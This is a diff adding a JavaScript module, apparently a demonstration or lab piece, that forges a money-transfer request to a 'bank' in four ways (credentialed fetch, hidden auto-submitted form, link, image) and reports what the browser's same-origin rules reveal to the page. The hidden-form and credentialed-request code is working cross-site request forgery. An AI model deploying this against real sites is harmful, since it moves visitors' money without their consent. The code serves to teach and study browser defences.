@@ -1,0 +1,83 @@
+// The ways in which a page can have its visitor's browser send a request to another origin.
+
+import { element } from "./element.js";
+
+const ORDER = { from: "1", to: "3", cents: "10000" };
+const WINDOW = "answer";
+const PATIENCE = 10_000;
+const INTERVAL = 50;
+
+async function byFetch(target) {
+  try {
+    const response = await fetch(target, {
+      method: "POST",
+      body: new URLSearchParams(ORDER),
+      credentials: "include",
+    });
+    return `It gave the answer to the script: ${response.status} ${await response.text()}`;
+  } catch (failure) {
+    return `It withheld the answer from the script: ${failure}`;
+  }
+}
+
+/** A window stays beside the page, so that one sees both. */
+function open(target) {
+  return window.open(target, WINDOW, "popup,width=520,height=320");
+}
+
+/** Tries to read the window as soon as it shows the answer: until then it is this page's own. */
+async function lookInto(opened) {
+  const end = Date.now() + PATIENCE;
+  while (Date.now() < end) {
+    try {
+      void opened.document.body;
+    } catch (failure) {
+      return `It showed the answer in a window, and kept the script out: ${failure.name}`;
+    }
+    await new Promise((resolve) => setTimeout(resolve, INTERVAL));
+  }
+  return "It let the script look into the window.";
+}
+
+async function byForm(target) {
+  const opened = open("about:blank");
+  const form = element("form");
+  Object.assign(form, { method: "POST", action: target, target: WINDOW, hidden: true });
+  for (const [name, value] of Object.entries(ORDER)) {
+    const field = element("input");
+    Object.assign(field, { type: "hidden", name, value });
+    form.append(field);
+  }
+  document.body.append(form);
+  form.submit();
+  form.remove();
+  return lookInto(opened);
+}
+
+function withOrder(target) {
+  return `${target}&${new URLSearchParams(ORDER)}`;
+}
+
+async function byLink(target) {
+  open("about:blank");
+  return lookInto(open(withOrder(target)));
+}
+
+async function byImage(target) {
+  const image = new Image();
+  const loaded = new Promise((resolve) => {
+    image.addEventListener("load", () => resolve("It showed the answer as an image."));
+    image.addEventListener("error", () =>
+      resolve("It asked for the image, and could not show the answer as one."),
+    );
+  });
+  image.src = `${withOrder(target)}&at=${Date.now()}`;
+  return loaded;
+}
+
+const WAYS = { fetch: byFetch, form: byForm, link: byLink, image: byImage };
+
+/** Asks the bank to move money, in one of the ways; returns what the browser let the page see. */
+export async function attack(way, transfers, cookie) {
+  return WAYS[way](`${transfers}?cookie=${cookie}`);
+}
